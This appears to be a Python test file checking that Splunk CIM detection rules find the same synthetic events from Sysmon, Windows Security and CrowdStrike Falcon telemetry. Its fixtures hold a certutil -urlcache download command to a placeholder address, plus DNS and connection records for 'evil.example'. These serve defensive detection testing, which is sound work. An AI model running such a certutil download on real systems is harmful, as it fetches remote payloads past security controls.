"""One CIM rule on what Sysmon, Windows and Falcon recorded, as the Splunk platform shows it."""

from datetime import UTC, datetime

import pyarrow as pa

from harness.detection.engine import open_engine
from harness.detection.language import Settings, language
from harness.diagnostics import Source
from harness.telemetry.events.event import CAUSE, TIME, TIME_TYPE, Events, Telemetry
from harness.telemetry.platform import platform
from tests.columns import text_column

NT = "\\Device\\HarddiskVolume3\\Windows\\System32\\"


def recorded(sensor, kind, constants, **fields):
    fixed = {
        TIME: pa.array([datetime(2024, 1, 1, 10, tzinfo=UTC)], TIME_TYPE),
        CAUSE: pa.array([-1], pa.int32()),
    }
    table = pa.table({**fixed, **{name: text_column([value]) for name, value in fields.items()}})
    return Events(sensor=sensor, kind=kind, constants=constants, columns=table)


SYSMON = {"Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon"}
STARTS = Telemetry(
    events=(
        recorded(
            "sysmon",
            "1",
            {**SYSMON, "EventID": "1"},
            Computer="ws1",
            Image="C:\\Windows\\System32\\certutil.exe",
            CommandLine="certutil -urlcache -f http://203.0.113.5/a",
            ParentImage="C:\\Windows\\System32\\cmd.exe",
        ),
        recorded(
            "windows_security",
            "4688",
            {"Channel": "Security", "EventID": "4688", "Provider_Name": "Microsoft-Windows-Security-Auditing"},
            Computer="ws2",
            NewProcessName="C:\\Windows\\System32\\certutil.exe",
            CommandLine="certutil -urlcache -f http://203.0.113.5/a",
            ParentProcessName="C:\\Windows\\System32\\cmd.exe",
        ),
        recorded(
            "falcon",
            "ProcessRollup2",
            {"event_simpleName": "ProcessRollup2", "event_platform": "Win"},
            ComputerName="ws3",
            ImageFileName=NT + "certutil.exe",
            CommandLine="certutil -urlcache -f http://203.0.113.5/a",
            ParentBaseFileName="cmd.exe",
        ),
        recorded(
            "falcon",
            "DnsRequest",
            {"event_simpleName": "DnsRequest"},
            ComputerName="ws3",
            DomainName="evil.example",
            IP4Records="203.0.113.5;",
            RequestType="1",
        ),
        recorded(
            "falcon",
            "NetworkConnectIP4",
            {"event_simpleName": "NetworkConnectIP4"},
            ComputerName="ws3",
            RemoteAddressIP4="203.0.113.5",
            RemotePort="80",
            Protocol="6",
        ),
    )
)


def rows_of(rule, **switches):
    settings = Settings(switches=switches)
    duckdb = open_engine("duckdb")
    columns = duckdb.load(platform("splunk").present(STARTS, {}))
    plan = language("spl").parse(Source("rule.spl", rule)).plan(columns, settings)
    found = [{n: v for n, v in row.items() if n[0] != "@"} for row in duckdb.run(plan.node).records()]
    duckdb.close()
    return found, plan


def test_a_rule_about_processes_finds_the_same_of_every_sensor():
    rows, _ = rows_of(
        "| tstats `security_content_summariesonly` count from datamodel=Endpoint.Processes where "
        'Processes.process_name=certutil.exe Processes.process="*-urlcache*" Processes.parent_process_name=cmd.exe '
        "by Processes.dest | `drop_dm_object_name(Processes)`"
    )
    assert sorted(rows, key=lambda r: r["dest"]) == [
        {"dest": "ws1", "count": 1.0},
        {"dest": "ws2", "count": 1.0},
        {"dest": "ws3", "count": 1.0},
    ]


def test_a_rule_about_names_finds_falcons_requests():
    rows, _ = rows_of("| tstats count from datamodel=Network_Resolution where DNS.query=evil.* by DNS.src DNS.answer")
    assert rows == [{"DNS.src": "ws3", "DNS.answer": "203.0.113.5", "count": 1.0}]


def test_whether_falcons_connections_are_traffic_is_a_switch_that_the_plan_names():
    rule = "| tstats count from datamodel=Network_Traffic by All_Traffic.dest All_Traffic.dest_port"
    rows, plan = rows_of(rule)
    assert rows == []
    assert plan.switches["falcon_connections"] == "ports"
    rows, _ = rows_of(rule, falcon_connections="traffic")
    assert rows == [{"All_Traffic.dest": "203.0.113.5", "All_Traffic.dest_port": "80", "count": 1.0}]


def test_a_rule_that_needs_no_network_events_does_not_depend_on_that_switch():
    _, plan = rows_of("| tstats count from datamodel=Endpoint.Processes by Processes.dest")
    assert "falcon_connections" not in plan.switches


def test_common_fields_of_falcon_are_there_for_any_search_that_names_them():
    rows, _ = rows_of("search index=crowdstrike process_name=certutil.exe | table dest, parent_process_name")
    assert rows == [{"dest": "ws3", "parent_process_name": "cmd.exe"}]


def test_a_name_that_a_dataset_lacks_is_told_with_the_one_meant():
    _, plan = rows_of("| tstats count from datamodel=Endpoint.Processes by Processes.proces_name")
    told = [f for f in plan.findings if "has no field `proces_name`" in f.message]
    assert [f.help for f in told] == ["did you mean `process_name`?"]
